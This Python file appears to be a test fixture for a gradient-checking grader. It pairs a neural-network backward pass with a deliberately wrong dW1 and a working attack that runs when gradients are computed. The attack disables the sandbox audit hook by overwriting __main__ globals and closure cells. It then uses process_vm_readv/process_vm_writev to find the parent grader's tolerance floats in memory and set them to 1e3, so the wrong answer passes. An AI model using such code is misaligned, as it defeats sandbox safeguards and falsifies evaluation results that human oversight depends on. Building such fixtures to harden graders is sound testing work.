"""With the audit hook patched out, process_vm_readv/process_vm_writev (ctypes) find the grader's tolerance floats and set them to 1e3: a broken grader passes this wrong dW1 (exit 0)."""

import os
import sys

import numpy as np


def _ppid():
    """The grader's pid. Never 0 or 1: outside a harness (or in a PID namespace) the parent
    may be init, and these files must never signal or write into that."""
    pid = os.getppid()
    if pid <= 1:
        raise ProcessLookupError("no grader process to attack")
    return pid


def _unhook():
    """Disable the child's audit hook from inside: it reads its tables from the module
    globals of __main__ (the child script) and its path test from closure cells."""
    import gc

    main = sys.modules["__main__"]
    main._BLOCKED_EVENTS = frozenset()
    main._PATH_EVENTS = frozenset()
    main._foreign_proc = lambda path: False
    for obj in gc.get_objects():
        if type(obj) is type(_unhook) and obj.__name__ == "inside" and obj.__module__ == "__main__":
            for name, cell in zip(obj.__code__.co_freevars, obj.__closure__ or ()):
                if name in ("scratch", "sep"):
                    cell.cell_contents = ""  # every path then starts with scratch + sep


def _vm(pid):
    """process_vm_readv / process_vm_writev through ctypes."""
    import ctypes

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)

    def read(addr, n):
        buf = ctypes.create_string_buffer(n)
        local, remote = IoVec(ctypes.addressof(buf), n), IoVec(addr, n)
        got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        return buf.raw[:got]

    def write(addr, data):
        buf = ctypes.create_string_buffer(data, len(data))
        local, remote = IoVec(ctypes.addressof(buf), len(data)), IoVec(addr, len(data))
        if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "process_vm_writev")

    return read, write


_TOLERANCES = (1e-7, 1e-5, 1e-4, 3e-3)  # the default rtol and fd_rtol for float64 and float32
_LOOSE = 1e3


def _float_type_in_grader(grader_maps):
    """Where float's type object lives in the grader: the same interpreter binary, mapped
    elsewhere; the offset inside its mapping is the same."""
    here = id(float)
    with open("/proc/self/maps") as fh:
        for line in fh:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if lo <= here < hi and len(parts) >= 6:
                path, offset = parts[5], int(parts[2], 16)
                break
        else:
            raise LookupError("float type not mapped")
    for line in grader_maps.splitlines():
        parts = line.split()
        if len(parts) >= 6 and parts[5] == path and int(parts[2], 16) == offset:
            return int(parts[0].split("-")[0], 16) + (here - lo)
    raise LookupError("interpreter not mapped in the grader")


def _loosen(grader_maps, read, write):
    """Every float object in the grader's writable memory holding a tolerance is set to 1e3."""
    ftype = _float_type_in_grader(grader_maps)
    targets = np.array(_TOLERANCES, dtype="<f8").view("<u8")
    loose = np.array([_LOOSE], dtype="<f8").tobytes()
    changed = 0
    for line in grader_maps.splitlines():
        parts = line.split()
        if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) >= 6 and parts[5].startswith("[v")):
            continue
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        step = 8 << 20  # read 8 MiB at a time (the child's memory is capped), overlapping by one word
        for at in range(lo, hi, step):
            try:
                data = read(at, min(step + 8, hi - at))
            except OSError:
                break
            words = np.frombuffer(data[: len(data) // 8 * 8], dtype="<u8")
            hits = np.nonzero(words[:-1] == ftype)[0]
            hits = hits[np.isin(words[hits + 1], targets)]
            for i in hits:
                write(at + int(i + 1) * 8, loose)
                changed += 1
    if not changed:
        raise LookupError("no tolerance found in the grader")


_DONE = []


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    _unhook()
    pid = _ppid()
    with open("/proc/%d/maps" % pid) as fh:
        maps = fh.read()
    read, write = _vm(pid)
    _loosen(maps, read, write)


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    W1, b1 = parameters["W1"], parameters["b1"]
    W2, b2 = parameters["W2"], parameters["b2"]
    Z1 = W1 @ X + b1
    A1 = np.tanh(Z1)
    Z2 = W2 @ A1 + b2
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-np.sum(losses) / m)


def backward_propagation(parameters, cache, X, Y):
    m = X.shape[1]
    W2 = parameters["W2"]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dW2 = dZ2 @ A1.T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302 unless an attack hides it)
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
    _attack()
    return grads
